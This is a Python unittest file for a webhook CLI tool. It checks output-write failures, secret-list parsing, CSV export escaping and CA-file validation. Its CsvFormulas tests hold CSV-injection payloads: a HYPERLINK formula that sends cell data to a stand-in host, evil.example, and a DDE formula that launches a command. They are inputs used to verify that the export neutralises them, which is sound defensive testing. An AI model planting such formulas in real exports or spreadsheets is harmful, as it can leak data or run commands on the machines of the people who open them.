"""The CLI verbs at their edges: output that cannot be written, and settings that only look
right (found by adversarial use, session 21)."""
import csv
import io
import json
import os
import subprocess
import sys
import tempfile
import unittest

sys.path.insert(0, os.path.dirname(__file__))
from cli import DATA, VOCOHOOK, run, write_temp  # noqa: E402
from recv_harness import Receiver, payload  # noqa: E402

TS = "2026-03-15T14:32:08.000Z"
SECRET = "whsec_" + "ab" * 32


def run_out(args, stdout, stdin=None):
    """Runs `vocohook ARGS` with stdout "full" (/dev/full) or "closed"; returns
    (exit code, stderr text)."""
    env = {k: v for k, v in os.environ.items()
           if k not in ("VOCOHOOK_SECRET", "VOCOHOOK_SECRETS")}
    if stdout == "full":
        with open("/dev/full", "wb") as full:
            p = subprocess.run([VOCOHOOK, *args], stdout=full, stderr=subprocess.PIPE,
                               input=stdin, env=env, timeout=60)
    else:
        p = subprocess.run([VOCOHOOK, *args], stdout=subprocess.DEVNULL,
                           stderr=subprocess.PIPE, input=stdin, env=env, timeout=60,
                           preexec_fn=lambda: os.close(1))
    return p.returncode, p.stderr.decode("utf-8", "replace")


class SignedSeed(unittest.TestCase):
    """A class whose tests share the seed session's rendered body (cls.body, in the file
    cls.path) and its signature with SECRET at TS (cls.sig)."""

    @classmethod
    def setUpClass(cls):
        rc, body, err = run("render", "--timestamp", TS,
                            os.path.join(DATA, "good", "seed_session.json"))
        assert rc == 0, err
        cls.body = body
        cls.path = write_temp(body)
        rc, out, err = run("sign", "--secret", SECRET, "--timestamp", TS, cls.path)
        assert rc == 0, err
        cls.sig = out.decode().splitlines()[1].split(": ", 1)[1]

    @classmethod
    def tearDownClass(cls):
        os.unlink(cls.path)


@unittest.skipUnless(os.path.exists("/dev/full"), "needs /dev/full")
class OutputFailures(SignedSeed):
    """SPEC §9: an output that cannot be written is an I/O failure, exit 3 with a line on
    stderr, never exit 0 with the result lost."""

    def commands(self):
        return {
            "validate": ["validate", self.path],
            "verify": ["verify", "--secret", SECRET, "--timestamp", TS, "--signature",
                       self.sig, "--now", TS, self.path],
            "sign": ["sign", "--secret", SECRET, "--timestamp", TS, self.path],
            "render": ["render", "--timestamp", TS,
                       os.path.join(DATA, "good", "seed_session.json")],
            "presign": ["presign", "--url", "https://b.s3.amazonaws.com/x", "--region",
                        "us-east-1", "--access-key", "AK", "--secret-key", "SK"],
            "version": ["version"],
            "help": ["--help"],
        }

    def test_full_or_closed_stdout_is_exit_3_with_a_message(self):
        for name, args in self.commands().items():
            for how in ("full", "closed"):
                with self.subTest(verb=name, stdout=how):
                    rc, err = run_out(args, how)
                    self.assertEqual(rc, 3, f"{name} >{how}: exit {rc}, stderr {err!r}")
                    self.assertIn("standard output", err)
                    self.assertEqual(len(err.strip().splitlines()), 1, err)

    def test_a_key_that_could_not_be_written_says_how_to_get_another(self):
        # The store keeps only the key's hash, so a partner created (or a key rotated) with
        # stdout full has a key nobody holds; the message says which partner and what to run.
        db = "sqlite:" + os.path.join(tempfile.mkdtemp(), "p.db")
        rc, err = run_out(["partner", "create", "acme", "--db", db], "full")
        self.assertEqual(rc, 3, err)
        pid = err.split("the key of partner ", 1)[1].split(" ", 1)[0]
        self.assertIn(f"`vocohook partner rotate-key {pid}` makes a new one", err)
        rc, out, err = run("partner", "list", "--db", db)
        self.assertEqual(rc, 0, err)
        self.assertIn(pid, out.decode())
        rc, out, err = run("partner", "rotate-key", pid, "--db", db)
        self.assertEqual(rc, 0, err)
        self.assertIn(b"api_key: ", out)


class VerifySecretsList(SignedSeed):
    """`verify` reads VOCOHOOK_SECRETS as `receive` does: a list it cannot take whole is a
    usage error, not a signature mismatch on the secret it dropped."""

    def verify(self, secrets):
        return run("verify", "--timestamp", TS, "--signature", self.sig, "--now", TS,
                   self.path, env={"VOCOHOOK_SECRETS": secrets})

    def test_sixteen_secrets_and_empty_items(self):
        rc, out, err = self.verify(",".join([f"old{i}" for i in range(15)] + [SECRET]))
        self.assertEqual((rc, out), (0, b"valid\n"), err)
        rc, out, err = self.verify(f",{SECRET},,")
        self.assertEqual((rc, out), (0, b"valid\n"), err)

    def test_more_than_sixteen_is_a_usage_error(self):
        # The 17th secret was dropped without a word: the signature "did not match any of
        # 16 secrets" (exit 1) though it was made with one of the list.
        rc, out, err = self.verify(",".join([f"old{i}" for i in range(16)] + [SECRET]))
        self.assertEqual((rc, out), (2, b""), err)
        self.assertIn("at most 16 secrets", err)
        self.assertNotIn(SECRET, err)

    def test_white_space_around_a_secret_is_a_usage_error(self):
        # "old, new" gave the secret " new": a mismatch for every webhook signed with it.
        for secrets in (f"old, {SECRET}", f"{SECRET} ", f"\t{SECRET}", f"{SECRET}\n"):
            with self.subTest(secrets=secrets):
                rc, out, err = self.verify(secrets)
                self.assertEqual((rc, out), (2, b""), err)
                self.assertIn("white space", err)
                self.assertNotIn(SECRET, err)


class CsvFormulas(unittest.TestCase):
    """`sessions export --format csv` is opened in spreadsheets. The agent name is the
    sender's free text: a cell starting with = + - @ (or a tab or CR) is a formula there
    (CSV injection, CWE-1236), so the export writes it after a single quote, which those
    programs show as text. The JSON lines export keeps the exact value."""

    NAMES = {
        "s_eq": "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")",
        "s_plus": "+1+cmd|' /C calc'!A0",
        "s_minus": "-2+3",
        "s_at": "@SUM(1+1)",
        "s_tab": "\t=1+1",
        "s_cr": "\r=1+1",
        "s_plain": "Sales, \"Assistant\" = 1",
    }

    def test_formula_characters_are_neutralised(self):
        with Receiver() as r:
            for sid, name in self.NAMES.items():
                self.assertEqual(r.deliver(payload(sid, agent_name=name)).status, 200)
            rc, out, err = r.cli("sessions", "export", "--format", "csv")
            self.assertEqual(rc, 0, err)
            rows = {x["session_id"]: x for x in csv.DictReader(io.StringIO(out, newline=""))}
            self.assertEqual(set(rows), set(self.NAMES))
            for sid, name in self.NAMES.items():
                with self.subTest(name=name):
                    want = name if sid == "s_plain" else "'" + name
                    self.assertEqual(rows[sid]["agent_name"], want)
                    # The validated columns are unchanged (E.164 numbers start with '+').
                    self.assertEqual(rows[sid]["from_number"], "+14155551234")
            rc, out, err = r.cli("sessions", "export", "--format", "jsonl")
            self.assertEqual(rc, 0, err)
            for line in out.splitlines():
                x = json.loads(line)
                self.assertEqual(x["payload"]["data"]["agent_name"], self.NAMES[x["session_id"]])


class CaFileNotAFile(unittest.TestCase):
    """A --ca-file that is a directory passed the start-up checks (access(R_OK), fopen):
    the daemons ran, and libcurl refused it at every HTTPS transfer ("error setting
    certificate file"), so every delivery, download and forward failed and was retried."""

    def start(self, *args, env=None):
        full_env = {k: v for k, v in os.environ.items()
                    if not k.startswith("VOCOHOOK_") and not k.startswith("AWS_")}
        full_env.update(env or {})
        try:
            p = subprocess.run([VOCOHOOK, *args], capture_output=True, env=full_env,
                               timeout=10)
        except subprocess.TimeoutExpired as e:
            self.fail(f"{args[0]} started with a directory as --ca-file: {e.stdout!r}")
        return p.returncode, p.stdout.decode(), p.stderr.decode()

    def test_serve_and_receive_refuse_a_directory(self):
        with tempfile.TemporaryDirectory() as tmp:
            ca_dir = os.path.join(tmp, "certs")
            os.mkdir(ca_dir)
            rc, out, err = self.start("serve", "--listen", "127.0.0.1:0", "--db",
                                      "sqlite:" + os.path.join(tmp, "s.db"), "--ca-file", ca_dir)
            self.assertEqual(rc, 3, out + err)
            self.assertIn(ca_dir, err)
            self.assertNotIn("listening", out)
            rc, out, err = self.start("receive", "--listen", "127.0.0.1:0", "--db",
                                      os.path.join(tmp, "inbox.db"), "--ca-file", ca_dir,
                                      env={"VOCOHOOK_SECRETS": "s"})
            self.assertEqual(rc, 3, out + err)
            self.assertIn(ca_dir, err)
            self.assertNotIn("listening", out)


if __name__ == "__main__":
    unittest.main(verbosity=2)
